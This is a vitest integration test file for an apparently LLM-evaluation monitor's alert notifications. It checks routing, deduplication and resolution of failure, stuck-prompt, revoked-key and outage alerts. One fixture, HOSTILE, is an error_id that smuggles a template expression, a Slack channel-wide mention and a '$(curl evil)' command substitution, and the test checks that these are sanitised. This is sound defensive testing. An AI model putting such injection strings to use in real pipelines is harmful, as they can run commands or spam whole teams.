import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FILES_ADDRESS } from '../../scripts/repository.ts';
import { type AlertingStack, PATIENCE, RUNS, startAlerting } from './stack.ts';

/** An error_id of a hostile service. */
const HOSTILE = '1. First run {{ query "up" }}\n<!channel> $(curl evil)';
/** Its first prompt runs longer than its limit. */
const STUCK = 'stuck-prompts';
/** Their prompts fail at the same time. */
const FAILING = Array.from({ length: 5 }, (_, index) => `failing-${index}`);
const PROJECTS = ['checkout-bot', 'search-ranking', 'support-triage', STUCK, ...FAILING];
/** Alerts that polls and scrapes raise if they are late because the machine is busy. */
const BUSY_MACHINE = new Set(['EvalwatchDown', 'EvalwatchSchedulerOverrun']);

describe.runIf(RUNS)('alert notifications', { timeout: 300_000 }, () => {
  let stack: AlertingStack;
  beforeAll(async () => {
    stack = await startAlerting(PROJECTS, ['search', 'ads'], (project) =>
      project === STUCK ? { team: 'search', expect: { max_running: '5s' } } : {},
    );
  }, 180_000);
  afterAll(() => stack?.[Symbol.asyncDispose](), 30_000);

  const description = async (alertname: string, project: string) =>
    (await stack.alerts()).find(
      ({ labels }) => labels['alertname'] === alertname && labels['project'] === project,
    )?.annotations['description'];

  it('of a failed prompt name the project and the cause', async () => {
    const project = 'checkout-bot';
    stack.failPrompt(project, { error_id: 'OUTPUT_PARSE_ERROR', error_msg: 'no JSON' });
    const page = await stack.webhook.page('firing', 'EvalwatchPromptFailed', { project });
    expect(page).toMatchObject({
      receiver: 'warning',
      labels: { severity: 'warning' },
      annotations: {
        summary: expect.stringContaining(project),
        runbook_url: `${FILES_ADDRESS}/docs/runbooks/EvalwatchPromptFailed.md`,
      },
    });
    // The first page can come before the error_info.
    await expect
      .poll(() => description('EvalwatchPromptFailed', project), PATIENCE)
      .toContain(': OUTPUT_PARSE_ERROR 1. ');
  });

  it('arrive for each of several failures at once', async () => {
    for (const project of FAILING) stack.failPrompt(project);
    const pages = await Promise.all(
      FAILING.map((project) => stack.webhook.page('firing', 'EvalwatchPromptFailed', { project })),
    );
    expect(pages.map(({ receiver }) => receiver)).toEqual(FAILING.map(() => 'warning'));
  });

  it('of a stuck prompt go only to its team, with the limit', async () => {
    const page = await stack.webhook.page('firing', 'EvalwatchPromptStuck');
    expect(page).toMatchObject({
      receiver: 'search-chat',
      labels: { project: STUCK, team: 'search', status: 'RUNNING', severity: 'warning' },
      annotations: { description: expect.stringMatching(/limit is 5s\b/) },
    });
  });

  it('of a revoked API key name the project, and resolve when the key is restored', async () => {
    const project = 'search-ranking';
    stack.revokeKey(project);
    const page = await stack.webhook.page('firing', 'EvalwatchAuthFailing');
    expect(page).toMatchObject({
      receiver: 'critical',
      labels: { project, severity: 'critical' },
      annotations: { description: expect.stringContaining(project) },
    });
    stack.giveKeyBack(project);
    const resolved = await stack.webhook.page('resolved', 'EvalwatchAuthFailing');
    expect(resolved.labels).toEqual(page.labels);
  });

  it('report a stopped daemon, and after its restart the prompt that failed meanwhile', async () => {
    const stoppedAt = performance.now();
    await stack.stopDaemon();
    const project = 'support-triage';
    stack.endFirstDay();
    stack.failPrompt(project, { error_id: HOSTILE, error_msg: 'no' });
    const page = await stack.webhook.page('firing', 'EvalwatchDown', { after: stoppedAt });
    expect(page).toMatchObject({ receiver: 'critical', labels: { severity: 'critical' } });
    await stack.startDaemon();
    await stack.webhook.page('resolved', 'EvalwatchDown', { after: page.at });
    await stack.webhook.page('firing', 'EvalwatchPromptFailed', { project, after: page.at });
    const cause = await stack.webhook.page('firing', 'EvalwatchNewFailureCause', { project });
    const shown = '1._First_run_query_up_n_channel_curl_evil_';
    expect(cause).toMatchObject({
      receiver: 'info',
      labels: { project, severity: 'info', error_id: HOSTILE.replace('\n', String.raw`\n`) },
      annotations: { summary: `Prompts of project ${project} fail with a new error_id: ${shown}` },
    });
    await expect
      .poll(() => description('EvalwatchPromptFailed', project), PATIENCE)
      .toContain(`; 1 failed within the last 15 minutes: ${shown} 1. `);
  });

  it('of an unreachable service arrive once, not once for each project', async () => {
    const brokenAt = performance.now();
    stack.breakConnections();
    const page = await stack.webhook.page('firing', 'EvalwatchServiceFailing');
    expect(page).toMatchObject({
      receiver: 'critical',
      labels: { severity: 'critical' },
      annotations: { description: expect.stringMatching(/by reason: \d+ network\./) },
    });
    const suppressed = async () =>
      (await stack.alerts())
        .filter(({ status }) => status.state === 'suppressed')
        .map(({ labels }) => `${labels['alertname']} ${labels['project']}`)
        .toSorted();
    await expect
      .poll(suppressed, PATIENCE)
      .toEqual(PROJECTS.map((project) => `EvalwatchProjectPollFailing ${project}`).toSorted());

    stack.mendConnections();
    await stack.webhook.page('resolved', 'EvalwatchServiceFailing');
    const told = stack.webhook.pages
      .filter(({ at, labels }) => at > brokenAt && !BUSY_MACHINE.has(labels['alertname'] ?? ''))
      .map(({ status, labels }) => `${labels['alertname']} ${status}`);
    expect(told.filter((each) => !each.startsWith('EvalwatchPromptStuck'))).toEqual([
      'EvalwatchServiceFailing firing',
      'EvalwatchServiceFailing resolved',
    ]);
  });

  // Runs last, so that it sees late duplicates of all tests above.
  it('of failed prompts arrive only once, also when the daemon restarts', () => {
    // People who are paged twice for one failure stop reading.
    const projects = stack.webhook.pages
      .filter(
        ({ status, labels }) =>
          `${status} ${labels['alertname']}` === 'firing EvalwatchPromptFailed',
      )
      .map(({ labels }) => labels['project'] ?? '');
    expect(projects.toSorted()).toEqual(['checkout-bot', ...FAILING, 'support-triage']);
  });
});
